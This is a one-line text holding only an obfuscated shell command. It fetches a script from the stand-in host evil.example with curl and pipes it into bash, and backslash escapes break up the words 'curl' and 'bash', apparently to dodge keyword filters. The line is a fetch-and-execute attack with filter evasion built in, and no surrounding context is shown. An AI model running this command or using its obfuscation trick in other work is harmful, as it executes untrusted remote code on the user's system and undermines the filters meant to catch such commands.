c\u\r\l -s https://evil.example/x | ba\sh
